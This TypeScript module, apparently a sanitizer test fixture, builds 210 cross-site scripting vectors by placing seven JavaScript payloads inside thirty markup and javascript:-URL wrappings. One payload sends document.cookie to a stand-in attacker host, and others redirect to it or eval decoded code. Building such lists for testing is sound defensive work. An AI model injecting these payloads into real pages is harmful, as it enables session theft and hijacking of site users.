/** Things that run when a page writes text as markup: each payload in each wrapping, 200 and more. */
const payloads = [
  'globalThis.hacked=1',
  'alert(1)',
  "document.title='hacked'",
  'top.hacked=1',
  "fetch('https://evil.example.org/'+document.cookie)",
  'eval(atob("aGFja2VkPTE="))',
  'location="https://evil.example.org/"',
];

const wrappings: readonly ((payload: string) => string)[] = [
  (payload) => `<script>${payload}</script>`,
  (payload) => `</script><script>${payload}</script>`,
  (payload) => `</textarea><script>${payload}</script>`,
  (payload) => `<img src=x onerror="${payload}">`,
  (payload) => `<img src=x onerror='${payload}'>`,
  (payload) => `"><img src=x onerror=${payload}>`,
  (payload) => `'><svg onload=${payload}>`,
  (payload) => `<svg><script>${payload}</script></svg>`,
  (payload) => `<svg><animate onbegin="${payload}" attributeName=x dur=1s></svg>`,
  (payload) => `<svg/onload=${payload}//`,
  (payload) => `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
  (payload) => `<iframe src="javascript:${payload}"></iframe>`,
  (payload) => `<a href="javascript:${payload}">x</a>`,
  (payload) => `<a href="data:text/html,<script>${payload}</script>">x</a>`,
  (payload) => `[x](javascript:${payload})`,
  (payload) => `javascript:${payload}`,
  (payload) => `<body onload="${payload}">`,
  (payload) => `<details open ontoggle="${payload}">`,
  (payload) => `<input autofocus onfocus="${payload}">`,
  (payload) => `<video><source onerror="${payload}"></video>`,
  (payload) => `<object data="javascript:${payload}"></object>`,
  (payload) => `<embed src="javascript:${payload}">`,
  (payload) => `<form action="javascript:${payload}"><button>x</button></form>`,
  (payload) => `<math><mtext><script>${payload}</script></mtext></math>`,
  (payload) => `<style>@import 'javascript:${payload}';</style>`,
  (payload) => `<base href="https://evil.example.org/"><!--${payload}-->`,
  (payload) => `<meta http-equiv=refresh content="0;url=javascript:${payload}">`,
  (payload) => `<template><img src=x onerror="${payload}"></template>`,
  (payload) => `{{constructor.constructor('${payload}')()}}`,
  (payload) => `\${${payload}}`,
];

/** 210 of them. */
export const xssVectors: readonly string[] = wrappings.flatMap((wrap) => payloads.map(wrap));
